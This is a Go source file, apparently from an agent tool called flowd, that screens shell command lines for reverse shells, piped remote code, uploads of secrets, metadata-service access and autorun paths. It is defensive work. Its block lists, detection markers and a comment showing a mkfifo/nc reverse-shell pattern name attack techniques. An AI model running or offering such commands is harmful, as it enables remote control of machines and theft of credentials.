@@ -1,0 +1,671 @@
+// Package cmdrisk judges a shell command line before it runs: whether it
+// disguises what it runs, opens a shell for someone on the network, runs
+// code fetched from the network, sends local files or the environment to
+// another host, or reaches a cloud metadata service or a disguised
+// internal address. It also reports what a sensitive-read-then-send chain
+// needs: the credential files and environment the line reads, and whether
+// it reaches the network at all.
+//
+// It reads the line as the shell would (shellnorm), so quotes, escapes,
+// variables set on the line, $'…' and decoded pipelines change nothing.
+// It is pure, and linear in the line's size per nesting level.
+package cmdrisk
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/flowd-dev/flowd/internal/secretfile"
+	"github.com/flowd-dev/flowd/internal/shellnorm"
+	"github.com/flowd-dev/flowd/internal/ssrf"
+)
+
+// Rules of findings.
+const (
+	Disguised       = "disguised_command"
+	ReverseShell    = "reverse_shell"
+	RemoteCode      = "remote_code"
+	UploadSecret    = "sends_secret"
+	Upload          = "sends_file"
+	InternalAddress = "internal_address"
+	Unscreened      = "too_long_to_screen"
+)
+
+// Finding is one risk a command line carries.
+type Finding struct {
+	Rule string
+	// Severe: there is no honest reason for an agent to run it (deny);
+	// otherwise it has honest uses the user should confirm (ask).
+	Severe bool
+	Reason string
+}
+
+// Report is what Screen found.
+type Report struct {
+	Findings []Finding
+	// Network: the line talks to other hosts; Local: it has network
+	// commands that talk only to this machine or its network.
+	Network, Local bool
+	// Reads are the credential files and environment the line reads, as
+	// "path (what it is)".
+	Reads []string
+}
+
+// Worst returns the most serious finding, severe first.
+func (r Report) Worst() (Finding, bool) {
+	for _, f := range r.Findings {
+		if f.Severe {
+			return f, true
+		}
+	}
+	if len(r.Findings) > 0 {
+		return r.Findings[0], true
+	}
+	return Finding{}, false
+}
+
+// Screen judges a command line.
+func Screen(cmd string) Report {
+	if strings.TrimSpace(cmd) == "" {
+		return Report{}
+	}
+	l := shellnorm.Parse(cmd)
+	s := &screen{l: l}
+	if len(cmd) > shellnorm.MaxInput {
+		// What lies past the bound is unread: padding must not hide it.
+		s.add(Unscreened, true, fmt.Sprintf("the command line is %d bytes, past the %d flowd reads; no agent needs one that long", len(cmd), shellnorm.MaxInput))
+	}
+	if len(l.Tricks) > 0 {
+		var ts []string
+		for _, t := range l.Tricks {
+			ts = append(ts, fmt.Sprintf("%s (%q)", t.Trick, t.Word))
+		}
+		s.add(Disguised, true, "the command line disguises what it runs: "+strings.Join(ts, "; ")+
+			fmt.Sprintf("; read plainly it runs: %s", clip(strings.ReplaceAll(strings.TrimSpace(l.Text()), "\n", "; "))))
+	}
+	for i := range l.Commands {
+		s.command(i)
+	}
+	s.addresses()
+	return s.r
+}
+
+type screen struct {
+	l shellnorm.Line
+	r Report
+}
+
+func (s *screen) add(rule string, severe bool, reason string) {
+	for _, f := range s.r.Findings {
+		if f.Rule == rule {
+			return
+		}
+	}
+	s.r.Findings = append(s.r.Findings, Finding{Rule: rule, Severe: severe, Reason: reason})
+}
+
+func (s *screen) read(what string) {
+	if !slices.Contains(s.r.Reads, what) && len(s.r.Reads) < 8 {
+		s.r.Reads = append(s.r.Reads, what)
+	}
+}
+
+// netCommands talk to other hosts; the value says whether the command
+// name alone is a raw socket (whose stdin goes out as is).
+var netCommands = map[string]bool{
+	"curl": false, "wget": false, "wget2": false, "http": false, "https": false, "xh": false, "httpie": false,
+	"aria2c": false, "lynx": false, "ssh": false, "scp": false, "sftp": false, "rsync": false, "ftp": false,
+	"tftp": false, "lftp": false, "smbclient": false, "dig": false, "nslookup": false, "host": false, "ping": false,
+	"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "openssl": true, "websocat": true,
+	"invoke-webrequest": false, "iwr": false, "invoke-restmethod": false, "irm": false,
+}
+
+// fetchers print what they download, which a pipe can run.
+var fetchers = map[string]bool{"curl": true, "wget": true, "wget2": true, "http": true, "https": true, "xh": true,
+	"iwr": true, "invoke-webrequest": true, "irm": true, "invoke-restmethod": true, "nc": true, "ncat": true,
+	"netcat": true, "socat": true, "telnet": true, "openssl": true, "fetch": true, "lwp-download": true}
+
+// interpreters run a program given on stdin, as a file or as an argument.
+func interpreter(name string) bool {
+	if shellnorm.IsShell(name) {
+		return true
+	}
+	for _, p := range []string{"python", "perl", "ruby", "node", "php", "lua", "pwsh", "powershell", "deno", "bun", "tclsh", "osascript"} {
+		if name == p || strings.HasPrefix(name, p) && strings.Trim(name[len(p):], "0123456789.") == "" {
+			return true
+		}
+	}
+	return name == "source" || name == "." || name == "iex" || name == "invoke-expression" || name == "eval"
+}
+
+// readers print or copy the files they are given.
+var readers = map[string]bool{"cat": true, "less": true, "more": true, "head": true, "tail": true, "base64": true,
+	"base32": true, "xxd": true, "od": true, "hexdump": true, "strings": true, "cp": true, "tar": true, "zip": true,
+	"gzip": true, "bzip2": true, "xz": true, "grep": true, "rg": true, "awk": true, "sed": true, "sort": true,
+	"tac": true, "nl": true, "jq": true, "yq": true, "openssl": true, "gpg": true, "source": true, ".": true,
+	"scp": true, "rsync": true, "curl": true, "wget": true, "nc": true, "ncat": true, "netcat": true, "type": true,
+	"get-content": true, "gc": true, "bat": true, "view": true, "vim": true, "nano": true, "dd": true}
+
+// envDumps print the environment.
+func envDump(words []string) bool {
+	switch name(words) {
+	case "env", "printenv":
+		for _, w := range words[1:] {
+			if !strings.HasPrefix(w, "-") {
+				return name(words) == "printenv" && secretName(w)
+			}
+		}
+		return true
+	case "set", "export", "declare", "typeset":
+		return len(words) == 1 || len(words) == 2 && (words[1] == "-p" || words[1] == "-x")
+	}
+	return false
+}
+
+// secretName reports whether an environment variable's name says it holds
+// a credential.
+func secretName(v string) bool {
+	v = strings.ToUpper(v)
+	for _, w := range []string{"KEY", "TOKEN", "SECRET", "PASS", "CREDENTIAL", "AUTH", "PRIVATE", "SESSION", "COOKIE", "DSN", "DATABASE_URL"} {
+		if strings.Contains(v, w) {
+			return true
+		}
+	}
+	return false
+}
+
+func name(words []string) string {
+	if len(words) == 0 {
+		return ""
+	}
+	n := strings.ToLower(words[0])
+	if i := strings.LastIndexByte(n, '/'); i >= 0 {
+		n = n[i+1:]
+	}
+	return strings.TrimSuffix(n, ".exe")
+}
+
+// command judges one simple command.
+func (s *screen) command(i int) {
+	c := s.l.Commands[i]
+	words := c.Run()
+	n := name(words)
+	for _, r := range c.Redirects {
+		target := strings.TrimLeft(r, "<>&|")
+		if strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/") {
+			s.r.Network = true
+			if shellnorm.IsShell(n) || n == "exec" || interpreter(n) {
+				s.add(ReverseShell, true, fmt.Sprintf("%s connects a shell to %s: whoever listens there controls this machine", n, target))
+			}
+		}
+		if strings.HasPrefix(r, "<") {
+			s.sensitive(target)
+		}
+	}
+	if n == "" {
+		return
+	}
+	if raw, ok := netCommands[n]; ok {
+		s.net(i, c, words, raw)
+	}
+	if readers[n] {
+		for _, a := range words[1:] {
+			if !strings.HasPrefix(a, "-") || strings.Contains(a, "=") {
+				s.sensitive(strings.TrimPrefix(a[strings.IndexByte(a, '=')+1:], "@"))
+			}
+		}
+	}
+	if envDump(words) {
+		s.read("the environment (" + strings.Join(words, " ") + ")")
+	}
+	for _, w := range words[1:] {
+		if strings.HasPrefix(w, "/proc/") && strings.HasSuffix(w, "/environ") {
+			s.read(w + " (a process environment)")
+		}
+	}
+	if interpreter(n) {
+		s.interpreter(i, c, words, n)
+	}
+}
+
+// sensitive notes a path the line reads if it holds credentials.
+func (s *screen) sensitive(p string) {
+	if why := secretfile.Why(p); why != "" {
+		s.read(p + " (" + why + ")")
+	}
+}
+
+// net judges a command that talks to other hosts: what it sends, and
+// whether it is a shell's socket.
+func (s *screen) net(i int, c shellnorm.Command, words []string, raw bool) {
+	n := name(words)
+	dest := destination(words)
+	local := false
+	if t, ok := ssrf.Host(hostOf(dest)); ok && dest != "" {
+		local = t.Kind != ssrf.Metadata && t.Disguised == ""
+	}
+	if local {
+		s.r.Local = true
+	} else {
+		s.r.Network = true
+	}
+	if raw {
+		for _, a := range words[1:] {
+			la := strings.ToLower(a)
+			if a == "-e" || a == "-c" || strings.HasPrefix(a, "--exec") || strings.HasPrefix(a, "--sh-exec") || strings.HasPrefix(a, "--lua-exec") ||
+				n == "socat" && (strings.HasPrefix(la, "exec:") || strings.HasPrefix(la, "system:")) {
+				s.add(ReverseShell, true, fmt.Sprintf("%s %s hands a shell or program to a network connection: whoever is at the other end controls this machine", n, a))
+				return
+			}
+		}
+	}
+	if local {
+		return // a request to this machine or its network sends nothing out
+	}
+	var sent []string
+	wrapped := len(c.Words) - len(words) // c.Substituted counts the wrappers' words
+	for j := range words[1:] {
+		if v, at, ok := dataValue(n, words[1:], j); ok {
+			sent = append(sent, s.dataSources(c, wrapped+1+at, v)...)
+		}
+	}
+	if raw || n == "curl" && (slices.Contains(words, "-T") || slices.Contains(words, "--upload-file")) || n == "scp" || n == "rsync" {
+		if raw {
+			for _, r := range c.Redirects {
+				if strings.HasPrefix(r, "<") {
+					sent = append(sent, s.pathSource(strings.TrimLeft(r, "<")))
+				}
+			}
+		}
+		if n == "scp" || n == "rsync" {
+			for _, a := range words[1 : len(words)-1] {
+				if !strings.HasPrefix(a, "-") && !strings.Contains(a, ":") {
+					sent = append(sent, s.pathSource(a))
+				}
+			}
+		}
+	}
+	if c.PipedFrom >= 0 && (raw || pipesStdin(n, words)) {
+		sent = append(sent, s.fed(c.PipedFrom, 0)...)
+	}
+	s.judgeSent(n, dest, sent)
+}
+
+// judgeSent turns what a command sends into a finding.
+func (s *screen) judgeSent(n, dest string, sent []string) {
+	var secret, plain []string
+	for _, x := range sent {
+		if x == "" {
+			continue
+		}
+		if strings.HasSuffix(x, ")") {
+			secret = append(secret, x)
+		} else {
+			plain = append(plain, x)
+		}
+	}
+	to := ""
+	if dest != "" {
+		to = " to " + clip(dest)
+	}
+	switch {
+	case len(secret) > 0:
+		s.add(UploadSecret, true, fmt.Sprintf("%s sends %s%s", n, strings.Join(secret, ", "), to))
+	case len(plain) > 0:
+		s.add(Upload, false, fmt.Sprintf("%s sends local data (%s)%s", n, clip(strings.Join(plain, ", ")), to))
+	}
+}
+
+// pipesStdin reports whether a network command sends what is piped into
+// it: curl -d @-, --data-binary @-, -T -, wget --post-file=/dev/stdin.
+func pipesStdin(n string, words []string) bool {
+	for _, w := range words[1:] {
+		if w == "@-" || strings.HasSuffix(w, "=@-") || w == "-" && n == "curl" || strings.Contains(w, "/dev/stdin") {
+			return true
+		}
+	}
+	return false
+}
+
+// dataFlags are the options whose value a command sends: its text
+// ("@file" and "<file" name files in it), or, for pathFlags, a file.
+var dataFlags = map[string]map[string]bool{
+	"curl": {"-d": true, "--data": true, "--data-binary": true, "--data-raw": true, "--data-ascii": true,
+		"--data-urlencode": true, "-F": true, "--form": true, "--form-string": true, "-T": true, "--upload-file": true,
+		"--json": true},
+	"wget": {"--post-file": true, "--body-file": true, "--post-data": true, "--body-data": true},
+}
+
+var pathFlags = map[string]bool{"-T": true, "--upload-file": true, "--post-file": true, "--body-file": true}
+
+// dataValue returns the value of a data option at args[j], if it is
+// one, and the index in args of the word that holds it.
+func dataValue(n string, args []string, j int) (string, int, bool) {
+	a := args[j]
+	flags := dataFlags[n]
+	if n == "http" || n == "https" || n == "xh" || n == "httpie" {
+		if k := strings.Index(a, "@"); k > 0 && (a[k-1] == '=' || a[k-1] == ':') {
+			return a[k:], j, true
+		}
+		return "", 0, false
+	}
+	if flags == nil {
+		return "", 0, false
+	}
+	if k := strings.IndexByte(a, '='); k > 0 && strings.HasPrefix(a, "--") && flags[a[:k]] {
+		if pathFlags[a[:k]] {
+			return "@" + a[k+1:], j, true
+		}
+		return a[k+1:], j, true
+	}
+	if flags[a] && j+1 < len(args) {
+		if pathFlags[a] {
+			return "@" + args[j+1], j + 1, true
+		}
+		return args[j+1], j + 1, true
+	}
+	if len(a) > 2 && a[0] == '-' && a[1] != '-' && flags[a[:2]] { // -d@file
+		return a[2:], j, true
+	}
+	return "", 0, false
+}
+
+// dataSources describes where a sent value comes from: "@file" and
+// "<file" name files, a substitution the commands it runs.
+func (s *screen) dataSources(c shellnorm.Command, wordAt int, v string) []string {
+	var out []string
+	// curl reads a file for a value that starts with @ (-d @file) and
+	// for a form field's @file or <file (-F doc=@a.pdf;type=…); an @
+	// anywhere else is text (an e-mail address in a JSON body).
+	p := ""
+	switch {
+	case strings.HasPrefix(v, "@"):
+		p = v[1:]
+	case strings.Contains(v, "=@") || strings.Contains(v, "=<"):
+		k := strings.IndexAny(v, "@<")
+		p = v[k+1:]
+		if end := strings.IndexByte(p, ';'); end >= 0 {
+			p = p[:end]
+		}
+	}
+	if p != "" && p != "-" {
+		out = append(out, s.pathSource(p))
+	}
+	if subs, ok := c.Substituted[wordAt]; ok {
+		for _, i := range subs {
+			out = append(out, s.fed(i, 0)...)
+		}
+	}
+	for _, w := range strings.FieldsFunc(v, func(r rune) bool { return !(r == '_' || r == '$' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9') }) {
+		if strings.HasPrefix(w, "$") && secretName(w[1:]) {
+			// A credential's own service takes it in a body too (an
+			// OAuth client secret): worth a question, not a refusal.
+			out = append(out, "the variable "+w)
+		}
+	}
+	return out
+}
+
+// pathSource names a sent file, with what it is when it holds
+// credentials (the ")" at the end is how judgeSent tells them apart).
+func (s *screen) pathSource(p string) string {
+	if why := secretfile.Why(p); why != "" {
+		s.read(p + " (" + why + ")")
+		return p + " (" + why + ")"
+	}
+	return p
+}
+
+// fed describes what the command at i, and those feeding it, output:
+// files they read and environment they print.
+func (s *screen) fed(i, depth int) []string {
+	if i < 0 || depth > 16 {
+		return nil
+	}
+	c := s.l.Commands[i]
+	words := c.Run()
+	var out []string
+	n := name(words)
+	switch {
+	case envDump(words):
+		out = append(out, strings.Join(words, " ")+" (the environment)")
+	case readers[n]:
+		for _, a := range words[1:] {
+			if !strings.HasPrefix(a, "-") {
+				out = append(out, s.pathSource(a))
+			}
+		}
+	case n == "echo" || n == "printf":
+		for _, a := range words[1:] {
+			if strings.HasPrefix(a, "$") && secretName(strings.Trim(a, "${}")) {
+				out = append(out, "the variable "+a)
+			}
+		}
+	}
+	for _, r := range c.Redirects {
+		if strings.HasPrefix(r, "<") {
+			out = append(out, s.pathSource(strings.TrimLeft(r, "<")))
+		}
+	}
+	for _, subs := range c.Substituted {
+		for _, j := range subs {
+			out = append(out, s.fed(j, depth+1)...)
+		}
+	}
+	return append(out, s.fed(c.PipedFrom, depth+1)...)
+}
+
+// destination is the argument of a network command that names where it
+// connects: a URL, else a remote path (user@host:path), else the first
+// word that looks like a host.
+func destination(words []string) string {
+	args := words[1:]
+	for _, a := range args {
+		if strings.Contains(a, "://") {
+			return a
+		}
+	}
+	for _, a := range args {
+		if c := strings.IndexByte(a, ':'); c > 0 && !strings.ContainsAny(a[:1], "-/~.$@") && !strings.Contains(a[:c], "/") {
+			return a
+		}
+	}
+	for j, a := range args {
+		if j > 0 && strings.HasPrefix(args[j-1], "-") && !strings.Contains(args[j-1], "=") {
+			continue // an option's value
+		}
+		if a != shellnorm.Unknown && !strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "@") && hostLike(a) {
+			return a
+		}
+	}
+	return ""
+}
+
+// hostLike reports whether a bare argument could be a host: a dotted
+// name or address, an IPv6 literal, or a number too large to be a port
+// (an address written as one integer).
+func hostLike(a string) bool {
+	if strings.HasPrefix(a, "[") || strings.HasPrefix(a, "0x") {
+		return true
+	}
+	if strings.Trim(a, "0123456789") == "" {
+		return len(a) > 5
+	}
+	return strings.Contains(a, ".") && !strings.HasPrefix(a, "/") && !strings.HasPrefix(a, "~")
+}
+
+// hostOf returns the host of a URL or user@host:path.
+func hostOf(dest string) string {
+	if i := strings.Index(dest, "://"); i >= 0 {
+		dest = dest[i+3:]
+		if j := strings.IndexAny(dest, "/?#"); j >= 0 {
+			dest = dest[:j]
+		}
+	}
+	if i := strings.LastIndexByte(dest, '@'); i >= 0 {
+		dest = dest[i+1:]
+	}
+	if !strings.HasPrefix(dest, "[") {
+		if i := strings.IndexByte(dest, ':'); i >= 0 && strings.Count(dest, ":") == 1 {
+			dest = dest[:i]
+		}
+	}
+	return dest
+}
+
+// interpreter judges a command that runs code: fed from the network by a
+// pipe or a substitution, or given code that opens a shell on a socket.
+func (s *screen) interpreter(i int, c shellnorm.Command, words []string, n string) {
+	if c.PipedFrom >= 0 {
+		if f := s.fetchedBy(c.PipedFrom, 0); f != "" && netCommands[f] && shellnorm.IsShell(n) {
+			s.add(ReverseShell, true, fmt.Sprintf("%s runs what %s reads from a network connection: whoever is at the other end controls this machine", n, f))
+		} else if f != "" {
+			s.add(RemoteCode, false, fmt.Sprintf("%s runs code downloaded by %s, unseen by anyone before it runs", n, f))
+		}
+	}
+	for _, subs := range c.Substituted {
+		for _, j := range subs {
+			if f := s.fetchedBy(j, 0); f != "" {
+				s.add(RemoteCode, false, fmt.Sprintf("%s runs code downloaded by %s, unseen by anyone before it runs", n, f))
+			}
+		}
+	}
+	code := strings.ToLower(strings.Join(words[1:], " "))
+	if containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
+		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
+	}
+	if strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
+		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.") {
+		s.r.Network = true
+	}
+	// A shell whose output goes to a socket and whose input comes from
+	// one (mkfifo f; sh -i <f | nc host 4444 >f).
+	if shellnorm.IsShell(n) {
+		for j := i + 1; j < len(s.l.Commands); j++ {
+			if d := s.l.Commands[j]; d.PipedFrom == i && netCommands[name(d.Run())] {
+				s.add(ReverseShell, true, fmt.Sprintf("%s's output is piped to %s: a shell driven over the network", n, name(d.Run())))
+			}
+		}
+	}
+}
+
+// fetchedBy returns the fetching command whose output the command at i
+// passes on (directly or through decoders and filters), or "".
+func (s *screen) fetchedBy(i, depth int) string {
+	if i < 0 || depth > 16 {
+		return ""
+	}
+	c := s.l.Commands[i]
+	n := name(c.Run())
+	if fetchers[n] {
+		return n
+	}
+	for _, subs := range c.Substituted {
+		for _, j := range subs {
+			if f := s.fetchedBy(j, depth+1); f != "" {
+				return f
+			}
+		}
+	}
+	return s.fetchedBy(c.PipedFrom, depth+1)
+}
+
+// addresses judges the internal addresses the line names: a metadata
+// service anywhere, or any internal address written in disguise.
+func (s *screen) addresses() {
+	text := s.l.Text()
+	check := func(t ssrf.Target) {
+		switch {
+		case t.Kind == ssrf.Metadata:
+			s.add(InternalAddress, true, "the command reaches "+t.Reason()+", which hands out this machine's cloud credentials")
+		case t.Disguised != "":
+			s.add(InternalAddress, true, "the command reaches "+t.Reason()+": an internal address written to pass for something else")
+		}
+	}
+	for _, h := range ssrf.Find(text) {
+		check(h.Target)
+	}
+	for _, c := range s.l.Commands {
+		words := c.Run()
+		if _, ok := netCommands[name(words)]; !ok {
+			continue
+		}
+		for _, a := range words[1:] {
+			if !strings.HasPrefix(a, "-") && !strings.Contains(a, "://") && hostLike(hostOf(a)) {
+				if t, ok := ssrf.Host(hostOf(a)); ok {
+					check(t)
+				}
+			}
+		}
+	}
+}
+
+func clip(s string) string {
+	if r := []rune(s); len(r) > 160 {
+		return string(r[:160]) + "…"
+	}
+	return s
+}
+
+// autorun are places whose files run without anyone asking: a crontab, a
+// shell's startup files, service units, login items, git hooks.
+var autorun = []struct{ part, what string }{
+	{"/etc/cron", "a cron table (it runs on a schedule)"}, {"/var/spool/cron", "a cron table (it runs on a schedule)"},
+	{"crontab", "a cron table (it runs on a schedule)"}, {"/.bashrc", "a shell startup file (it runs in every new shell)"},
+	{"/.bash_profile", "a shell startup file (it runs in every new shell)"}, {"/.bash_login", "a shell startup file (it runs in every new shell)"},
+	{"/.profile", "a shell startup file (it runs in every new shell)"}, {"/.zshrc", "a shell startup file (it runs in every new shell)"},
+	{"/.zprofile", "a shell startup file (it runs in every new shell)"}, {"/.zshenv", "a shell startup file (it runs in every new shell)"},
+	{"/.config/fish/config.fish", "a shell startup file (it runs in every new shell)"}, {"/etc/profile", "a shell startup file (it runs in every new shell)"},
+	{"/etc/bash.bashrc", "a shell startup file (it runs in every new shell)"}, {"/etc/rc.local", "a boot script"},
+	{"/etc/init.d/", "a boot script"}, {"/systemd/", "a service unit (it runs as a service)"},
+	{"/.config/autostart/", "a login item"}, {"/launchagents/", "a login item"}, {"/launchdaemons/", "a boot service"},
+	{"/.git/hooks/", "a git hook (it runs on git commands)"}, {"/etc/ld.so.preload", "a library preload (it runs in every program)"},
+	{"/etc/sudoers", "the sudo rules"}, {"/.ssh/rc", "an SSH login script"},
+}
+
+// RunsOnItsOwn says what a path is when a file written there runs
+// without anyone running it, or "".
+func RunsOnItsOwn(path string) string {
+	p := strings.ToLower(strings.ReplaceAll(path, `\`, "/"))
+	if !strings.HasPrefix(p, "/") {
+		p = "/" + strings.TrimPrefix(p, "~/")
+	}
+	for _, a := range autorun {
+		if strings.Contains(p, a.part) {
+			return a.what
+		}
+	}
+	return ""
+}
+
+// Script reports whether text written to path is a shell script: the
+// path's extension says so, or the text starts with #!.
+func Script(path, text string) bool {
+	p := strings.ToLower(path)
+	for _, ext := range []string{".sh", ".bash", ".zsh", ".ksh", ".command", ".bashrc", ".profile"} {
+		if strings.HasSuffix(p, ext) {
+			return true
+		}
+	}
+	t := strings.TrimSpace(text)
+	return strings.HasPrefix(t, "#!") && (strings.Contains(t[:min(len(t), 64)], "sh") || strings.Contains(t[:min(len(t), 64)], "env"))
+}
+
+// socketMarkers open a network connection in the languages agents run
+// inline; shellMarkers start a shell or wire a process to a descriptor.
+var (
+	socketMarkers = []string{"socket", "fsockopen", "tcpclient", "net.connect", "net.dial", "/dev/tcp", "tcpsocket", "io::socket",
+		"require('net')", `require("net")`, "node:net", "net.createconnection"}
+	shellMarkers = []string{"subprocess", "pty", "/bin/sh", "/bin/bash", "cmd.exe", "dup2", "exec(", "spawn", "proc_open",
+		"popen", "system(", "iex", "invoke-expression", "child_process"}
+)
+
+func containsAny(s string, subs []string) bool {
+	for _, sub := range subs {
+		if strings.Contains(s, sub) {
+			return true
+		}
+	}
+	return false
+}
